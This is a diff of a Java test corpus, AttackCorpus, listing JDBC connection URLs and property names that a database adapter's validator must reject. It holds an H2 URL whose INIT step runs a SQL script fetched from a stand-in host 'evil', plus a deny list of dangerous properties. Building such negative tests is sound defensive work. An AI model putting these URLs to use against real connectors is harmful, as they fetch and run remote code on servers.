@@ -1,17 +1,21 @@
-package org.bondstone.adapter.configuration;
+package org.bondstone.adapter.testing;
 
 import java.nio.charset.StandardCharsets;
+import java.util.ArrayList;
+import java.util.HashMap;
 import java.util.LinkedHashSet;
 import java.util.List;
 import java.util.Locale;
+import java.util.Map;
 import java.util.Set;
 import java.util.function.UnaryOperator;
+import org.bondstone.api.sql.ConnectionComponents;
 
 /** URLs and properties that have broken into servers, or would, and what attackers make of them. */
-final class AttackCorpus {
+public final class AttackCorpus {
 
   /** Complete URLs. None of them, and no mutation of them, may be accepted. */
-  static final List<String> URLS =
+  public static final List<String> URLS =
       List.of(
           // H2: scripts, tracing, servers, archives (CVE-2021-42392, CVE-2022-23221, Metabase).
           "jdbc:h2:mem:x;INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
@@ -197,7 +201,7 @@ final class AttackCorpus {
           "http://evil/");
 
   /** Names of properties that no kind of database takes, in URL or in connect arguments. */
-  static final List<String> PROPERTIES =
+  public static final List<String> PROPERTIES =
       List.of(
           "INIT",
           "TRACE_LEVEL_FILE",
@@ -293,8 +297,46 @@ final class AttackCorpus {
 
   private AttackCorpus() {}
 
+  /** A harmless URL for each kind of database. */
+  public static List<String> places() {
+    return List.of(
+        "postgresql://h/d",
+        "h2:///mem:x",
+        "sqlite:///x.db",
+        "mysql://h/d",
+        "oracle://h/d",
+        "mssql://h/d");
+  }
+
+  /**
+   * Every URL and every property, in both places that a property can have, as the data of a block
+   * document.
+   */
+  public static List<Map<String, Object>> documents() {
+    List<Map<String, Object>> all = new ArrayList<>();
+    URLS.forEach(url -> all.add(Map.of("connection_info", url)));
+    for (String place : places()) {
+      for (String property : PROPERTIES) {
+        Map<String, Object> setting = Map.of(property, "x");
+        all.add(Map.of("connection_info", place, "connect_args", setting));
+        all.add(Map.of("connection_info", parts(place, setting)));
+      }
+    }
+    return all;
+  }
+
+  private static Map<String, Object> parts(String url, Map<String, Object> query) {
+    ConnectionComponents parts = ConnectionComponents.parse(url);
+    Map<String, Object> data = new HashMap<>();
+    data.put("driver", parts.driver().name());
+    data.put("host", parts.host());
+    data.put("database", parts.database());
+    data.put("query", query);
+    return data;
+  }
+
   /** Every URL in every mutation. */
-  static Set<String> mutated() {
+  public static Set<String> mutated() {
     Set<String> all = new LinkedHashSet<>();
     for (String url : URLS) {
       MUTATIONS.forEach(m -> all.add(m.apply(url)));
